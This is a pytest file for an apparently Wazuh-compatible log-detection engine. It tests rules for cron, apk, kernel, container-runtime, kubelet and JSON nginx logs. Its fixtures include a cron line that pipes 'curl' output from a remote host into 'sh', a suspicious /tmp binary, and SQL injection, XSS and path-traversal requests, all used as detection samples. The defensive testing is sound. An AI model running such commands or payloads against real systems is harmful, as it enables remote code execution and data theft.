"""The shipped rules for the host's system and container-runtime logs (cron, apk, the kernel, dockerd,
containerd, the kubelet) and for access logs written as JSON: a firing line and a near miss for each,
and Wazuh parity for the files these rules cover."""

from __future__ import annotations

import json
import time
from typing import Any

import pytest

from vigil.event import AgentRef, Event

from .support import analyzer
from .test_auth_log_rules import WAZUH_CASES, _parity

H = "Mar  1 10:00:00 node-1 "
CID = "4f1c2a3b4c5d6e7f8091a2b3c4d5e6f708192a3b4c5d6e7f8091a2b3c4d5e6f7"
T = 'time="2026-03-01T10:00:00.123456789Z"'
OOM_KILL = (H + f"kernel: [ 5678.1] oom-kill:constraint=CONSTRAINT_MEMCG,nodemask=(null),cpuset={CID},"
            f"mems_allowed=0,oom_memcg=/docker/{CID},task_memcg=/docker/{CID},task=nginx,pid=4242,uid=101")


def dockerd(rest: str, program: str = "dockerd[1022]") -> str:
    return f"{H}{program}: {T} {rest}"


def kubelet(rest: str) -> str:
    return f"{H}kubelet[1311]: {rest}"


def nginx_json(request: str, status: int = 200, agent: str = "Mozilla/5.0 (X11; Linux x86_64)") -> str:
    return json.dumps({"time_local": "01/Mar/2026:10:00:00 +0000", "remote_addr": "198.51.100.7",
                       "request": request, "status": str(status), "body_bytes_sent": "512",
                       "http_referer": "", "http_user_agent": agent})


def netfilter(prefix: str, src: str = "203.0.113.9") -> str:
    return (f"{H}kernel: [ 3529.289825] {prefix} IN=eth0 OUT= MAC=00:11:22:33:44:55:66:77:88:99:aa:bb:08:00 "
            f"SRC={src} DST=192.0.2.10 LEN=60 TOS=0x00 PREC=0x00 TTL=52 ID=0 DF PROTO=TCP SPT=51022 DPT=22 "
            "WINDOW=64240 RES=0x00 SYN URGP=0")


def audit(body: str) -> str:
    return f"{H}kernel: [ 8665.951930] audit: {body}"


EXAMPLES = [
    # ---- cron
    (H + "CRON[812]: (root) CMD (cd / && run-parts --report /etc/cron.hourly)", None, None),
    (H + "CRON[812]: (www-data) CMD (curl -fsSL http://203.0.113.5/x.sh | sh)", "200401",
     "Cron job as www-data downloads or runs a hidden payload: curl -fsSL http://203.0.113.5/x.sh | sh"),
    (H + "CROND[812]: (root) CMD (/tmp/.X11-unix/.x/kdevtmpfsi)", "200401", None),
    (H + "crontab[77]: (root) REPLACE (bob)", "2832", "Crontab of bob replaced by root"),
    (H + "crontab[77]: (bob) REPLACE (root)", "2833", "Root's crontab replaced by bob"),
    (H + "crontab[77]: (bob) BEGIN EDIT (bob)", "2834", "Crontab of bob opened for editing by bob"),
    (H + "crontab[77]: (bob) LIST (bob)", None, None),
    (H + "cron[411]: (CRON) error (grandchild #2451 failed with exit status 1)", "200402",
     "Cron error: error (grandchild #2451 failed with exit status 1)"),
    (H + "crond[411]: (*system*) BAD FILE MODE (/etc/cron.d/job)", "200402", None),
    (H + "cron[411]: (*system*) NUMBER OF HARD LINKS > 1 (/etc/crontab)", "200402", None),
    (H + "cron[411]: (CRON) INFO (pidfile fd = 3)", None, None),
    (H + "cron[411]: (*system*) RELOAD (/etc/crontab)", "200403", "Cron reloaded a changed crontab: /etc/crontab"),
    (H + "CRON[812]: pam_unix(cron:session): session closed for user root", None, None),
    # ---- apk: /var/log/apk.log, or what apk prints
    ("(1/4) Installing ca-certificates (20240226-r0)", "200411",
     "New package installed on the host: ca-certificates 20240226-r0 (apk)"),
    ("(1/1) Purging curl (8.5.0-r0)", "200412", "Package removed from the host: curl 8.5.0-r0 (apk)"),
    ("(3/4) Upgrading musl (1.2.4-r2 -> 1.2.4-r3)", "200413",
     "Package musl changed version on the host: 1.2.4-r2 -> 1.2.4-r3 (apk Upgrading)"),
    ("Running `apk add --no-cache curl` at 2026-03-01 10:00:00", "200414",
     "apk run on the host: apk add --no-cache curl"),
    ("Executing busybox-1.36.1-r15.trigger", None, None),
    ("OK: 13 MiB in 20 packages", None, None),
    # ---- kernel: promiscuous mode
    (H + "kernel: [ 1234.567890] device eth0 entered promiscuous mode", "5104",
     "Interface eth0 entered promiscuous (sniffing) mode"),
    (H + "kernel: eth1: entered promiscuous mode", "5104", None),
    (H + "kernel: [ 1234.567890] device veth3f2a1b9 entered promiscuous mode", None, None),
    (H + "kernel: [ 1234.567890] device docker0 entered promiscuous mode", "5104", None),
    (H + "kernel: [ 1234.567890] device eth0 left promiscuous mode", None, None),
    # ---- kernel: OOM killer
    (H + "kernel: [ 5678.123456] Out of memory: Killed process 4242 (java) total-vm:8123456kB, anon-rss:7000000kB, "
     "file-rss:0kB, shmem-rss:0kB, UID:0 pgtables:14000kB oom_score_adj:0", "5108",
     "System running out of memory: the kernel killed java (pid 4242)"),
    (H + "kernel: Memory cgroup out of memory: Killed process 4242 (nginx) total-vm:10000kB, anon-rss:5000kB, "
     "file-rss:0kB, shmem-rss:0kB, UID:101 pgtables:60kB oom_score_adj:0", "200421",
     "A memory cgroup (container) reached its limit: the kernel killed nginx (pid 4242)"),
    (OOM_KILL, "200422",
     f"Kernel OOM killer killed nginx (pid 4242) in container {CID} (CONSTRAINT_MEMCG)"),
    (H + f"kernel: oom-kill:constraint=CONSTRAINT_MEMCG,nodemask=(null),cpuset=/,mems_allowed=0,oom_memcg=/kubepods."
     f"slice/kubepods-burstable.slice,task_memcg=/kubepods.slice/kubepods-burstable.slice/kubepods-burstable-pod1.slice/"
     f"cri-containerd-{CID}.scope,task=java,pid=77,uid=0", "200422", None),
    (H + "kernel: oom-kill:constraint=CONSTRAINT_NONE,nodemask=(null),cpuset=/,mems_allowed=0,global_oom,"
     "task_memcg=/system.slice/cron.service,task=backup,pid=4242,uid=0", None, None),
    # ---- kernel: segfault
    (H + "kernel: [ 9123.456789] nginx[4242]: segfault at 0 ip 00007f1c2a3b4c5d sp 00007ffd1e2f3a40 error 4 in "
     "libc.so.6[7f1c2a300000+195000]", "1010", "Process nginx (pid 4242) segfaulted at 0 in libc.so.6"),
    (H + "kernel: [ 9123.456789] traps: nginx[4242] trap invalid opcode ip:55d0c0a1b2c3 sp:7ffd1e2f3a40 error:0",
     None, None),
    # ---- kernel: AppArmor
    (audit('type=1400 audit(1772359200.123:42): apparmor="DENIED" operation="open" class="file" '
           'profile="docker-default" name="/proc/sysrq-trigger" pid=4242 comm="sh" requested_mask="w" '
           'denied_mask="w" fsuid=0 ouid=0'), "200424",
     "AppArmor blocked a container: open of /proc/sysrq-trigger by sh (profile docker-default)"),
    (audit('type=1400 audit(1772359200.123:43): apparmor="DENIED" operation="open" profile="/usr/sbin/cupsd" '
           'name="/etc/shadow" pid=4242 comm="cupsd" requested_mask="r" denied_mask="r" fsuid=0 ouid=0'), "52002",
     "AppArmor denied open of /etc/shadow to cupsd (profile /usr/sbin/cupsd)"),
    (audit('type=1400 audit(1772359200.123:44): apparmor="DENIED" operation="exec" profile="/usr/sbin/cupsd" '
           'name="/bin/sh" pid=4242 comm="cupsd" requested_mask="x" denied_mask="x" fsuid=0 ouid=0'), "52003", None),
    (audit('type=1400 audit(1772359200.123:45): apparmor="DENIED" operation="mknod" profile="/usr/sbin/cupsd" '
           'name="/tmp/x" pid=4242 comm="cupsd" requested_mask="c" denied_mask="c" fsuid=0 ouid=0'), "52004", None),
    (audit('type=1400 audit(1772359200.123:46): apparmor="AUDIT" operation="open" profile="/usr/sbin/cupsd" '
           'name="/etc/cups/" pid=4242 comm="cupsd" requested_mask="r" fsuid=0 ouid=0'), "52000", None),
    (audit('type=1400 audit(1772359200.123:47): apparmor="STATUS" operation="profile_load" profile="unconfined" '
           'name="docker-default" pid=4242 comm="apparmor_parser"'), None, None),
    # ---- kernel: seccomp
    (audit('type=1326 audit(1772359200.123:48): auid=4294967295 uid=0 gid=0 ses=4294967295 '
           'subj=docker-default pid=4242 comm="exploit" exe="/tmp/exploit" sig=31 arch=c000003e syscall=272 '
           'compat=0 ip=0x7f1c2a3b4c5d code=0x80000000'), "200426",
     "Seccomp killed exploit (pid 4242, /tmp/exploit) for system call 272"),
    (audit('type=1326 audit(1772359200.123:49): auid=4294967295 uid=0 gid=0 ses=4294967295 pid=4242 comm="app" '
           'exe="/usr/bin/app" sig=0 arch=c000003e syscall=1 compat=0 ip=0x7f1c2a3b4c5d code=0x7ffc0000'), None, None),
    # ---- kernel: netfilter LOG lines
    (netfilter("DROP"), "4101", "Firewall drop event: TCP from 203.0.113.9:51022 to 192.0.2.10:22"),
    (netfilter("[UFW BLOCK]"), None, None),
    # ---- dockerd and containerd
    (dockerd('level=error msg="Handler for GET /v1.45/containers/abc/json returned error: No such container: abc"'),
     "86003", "Docker daemon error: Handler for GET /v1.45/containers/abc/json returned error: No such container: abc"),
    (dockerd('level=info msg="Loading containers: done."'), None, None),
    (dockerd('level=warning msg="Your kernel does not support swap memory limit"'), None, None),
    (dockerd('level=fatal msg="Error starting daemon: pid file found, ensure docker is not running or delete '
             '/var/run/docker.pid"'), "86004", None),
    (dockerd('level=error msg="Upload failed: unauthorized: authentication required"'), "86005", None),
    (dockerd('level=error msg="Upload failed: denied: User: arn:aws:iam::1234:user/ci is not authorized to '
             'perform: ecr:InitiateLayerUpload"'), "86006", None),
    (dockerd('level=error msg="AuthZRequest for POST /v1.45/containers/create returned error: authorization denied '
             'by plugin opa-docker-authz: request rejected by administrative policy"'), "200430",
     "Docker daemon: authorization plugin opa-docker-authz denied POST /v1.45/containers/create"),
    (dockerd('level=info msg="AuthZ request using plugin opa-docker-authz"'), None, None),
    (dockerd(f'level=error msg="failed to delete task" container={CID} error="context deadline exceeded" '
             'namespace=moby', program="containerd[801]"), "200431", "containerd error: failed to delete task"),
    (dockerd('level=error msg="Error loading seccomp profile" error="open /etc/x.json: no such file"',
             program="crio[905]"), "200431", "crio error: Error loading seccomp profile"),
    (dockerd('level=info msg="starting containerd" revision=abc version=1.7.13', program="containerd[801]"),
     None, None),
    # ---- kubelet
    (kubelet('E0301 10:00:00.123456    1311 pod_workers.go:1298] "Error syncing pod, skipping" err="failed to '
             '\\"StartContainer\\" for \\"web\\" with CrashLoopBackOff: \\"back-off 5m0s restarting failed '
             'container=web pod=web-0_default(1a2b)\\"" pod="default/web-0" podUID="1a2b"'), "200443",
     "Kubelet: a container of pod default/web-0 keeps crashing (back-off restarting failed container)"),
    (kubelet('E0301 10:00:00.123456    1311 remote_image.go:180] "PullImage from image service failed" err="rpc '
             'error: code = NotFound desc = failed to pull and unpack image \\"docker.io/library/ngnix:1.25\\": not '
             'found" image="ngnix:1.25"'), "200442", None),
    (kubelet('I0301 10:00:00.123456    1311 eviction_manager.go:366] "Eviction manager: must evict pod(s) to '
             'reclaim" resourceName="memory"'), "200444", None),
    (kubelet('I0301 10:00:00.123456    1311 eviction_manager.go:349] "Eviction manager: attempting to reclaim" '
             'resourceName="memory"'), None, None),
    (kubelet('E0301 10:00:00.123456    1311 remote_runtime.go:432] "ContainerStatus from runtime service failed" '
             'err="rpc error: code = NotFound desc = an error occurred"'), "200441", None),
    (kubelet('I0301 10:00:00.123456    1311 kubelet.go:2424] "SyncLoop ADD" source="api" pods=["default/web-0"]'),
     None, None),
    # ---- nginx access log as JSON
    (nginx_json("GET /item.php?id=1%20UNION%20SELECT%20user,password%20FROM%20users HTTP/1.1", 404), "200211",
     "SQL injection attempt from 198.51.100.7: GET /item.php?id=1%20UNION%20SELECT%20user,password%20FROM%20users "
     "HTTP/1.1"),
    (nginx_json("GET /item.php?id=1%20UNION%20SELECT%20user,password%20FROM%20users HTTP/1.1", 200), "200214", None),
    ('{"remote_addr":"198.51.100.7","request":"GET /a.php?id=1%27%20OR%201=1-- HTTP/1.1","status":200,'
     '"http_user_agent":"curl/8.5"}', "200214", "A web attack from 198.51.100.7 returned code 200 (success)"),
    (nginx_json("GET /search?q=selection%20of%20fromage HTTP/1.1"), None, None),
    (nginx_json("GET /q?x=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1", 400), "200212", None),
    (nginx_json("GET /q?x=scripted HTTP/1.1", 400), None, None),
    (nginx_json("GET /download?file=../../../../etc/passwd HTTP/1.1", 400), "200213", None),
    (nginx_json("GET /page?next=https://example.org/ok HTTP/1.1"), None, None),
    (nginx_json("GET / HTTP/1.1", 404, agent="sqlmap/1.7.2#stable (https://sqlmap.org)"), "200215", None),
    (nginx_json("GET / HTTP/1.1", 200, agent="Wget/1.21.3"), None, None),
]


def text_event(line: str, when: float) -> Event:
    return Event(module="logs", location="/var/log/syslog", timestamp=when, data={}, decoder="syslog", raw=line,
                 agent=AgentRef("001", "node-1"))


def segfault(process: str, i: int) -> str:
    return (f"{H}kernel: [ 9123.{i:06d}] {process}[{4000 + i}]: segfault at 0 ip 00007f1c2a3b4c5d "
            "sp 00007ffd1e2f3a40 error 4 in libc.so.6[7f1c2a300000+195000]")


def example_events() -> list[Event]:
    """Every example line, a burst of segfaults and one of firewall drops: the shipped-rule house test reaches
    rules with these."""
    now = time.time()
    lines = [line for line, *_ in EXAMPLES] + [segfault("worker", i) for i in range(8)] + [netfilter("DROP")] * 18
    return [text_event(line, now + i) for i, line in enumerate(lines)]


def winner(lines: list[str]) -> dict[str, Any] | None:
    fresh = analyzer()
    alert = None
    now = time.time()
    for i, line in enumerate(lines):
        alert = fresh.analyse(text_event(line, now + i)).alert
    return alert


@pytest.mark.parametrize(("line", "rule", "description"), EXAMPLES)
def test_each_rule_fires_on_its_line_and_not_on_its_near_miss(line: str, rule: str | None,
                                                              description: str | None) -> None:
    alert = winner([line])
    assert (alert["rule"]["id"] if alert else None) == rule
    if description is not None:
        assert alert is not None and alert["rule"]["description"] == description


def test_the_oom_kill_names_the_container_as_a_field() -> None:
    alert = winner([OOM_KILL])
    assert alert is not None and alert["data"]["container_id"] == CID
    assert alert["data"]["process"] == "nginx" and alert["decoder"]["name"] == "kernel"


def test_eight_segfaults_of_one_program_in_two_minutes_are_reported() -> None:
    seven = winner([segfault("worker", i) for i in range(7)])
    assert seven is not None and seven["rule"]["id"] == "1010"
    eight = winner([segfault("worker", i) for i in range(8)])
    assert eight is not None and eight["rule"]["id"] == "200423"
    mixed = winner([segfault(f"worker{i}", i) for i in range(8)])
    assert mixed is not None and mixed["rule"]["id"] == "1010"


def test_eighteen_drops_from_one_address_are_reported() -> None:
    seventeen = winner([netfilter("DROP")] * 17)
    assert seventeen is not None and seventeen["rule"]["id"] == "4101"
    eighteen = winner([netfilter("DROP")] * 18)
    assert eighteen is not None and eighteen["rule"]["id"] == "4151"
    assert eighteen["rule"]["description"] == "Multiple firewall drop events from 203.0.113.9"
    spread = winner([netfilter("DROP", src=f"203.0.113.{i}") for i in range(18)])
    assert spread is not None and spread["rule"]["id"] == "4101"


@pytest.mark.skipif(not WAZUH_CASES.is_dir(), reason="../shared/reference/wazuh-4.14 is not next to the project")
@pytest.mark.parametrize("name", ["apparmor", "iptables", "kernel_usb"])
def test_parity_with_wazuh_on_the_kernel_files(name: str) -> None:
    parity = _parity()
    (result,) = parity.measure([name])
    assert result.sessions >= 5
    assert result.parity is None or result.parity >= parity.TARGET_PARITY, \
        [o.session.lines[-1][:120] for o in result.misses]
    assert result.noise_share is None or result.noise_share <= parity.TARGET_NOISE, \
        [o.session.lines[-1][:120] for o in result.noise]
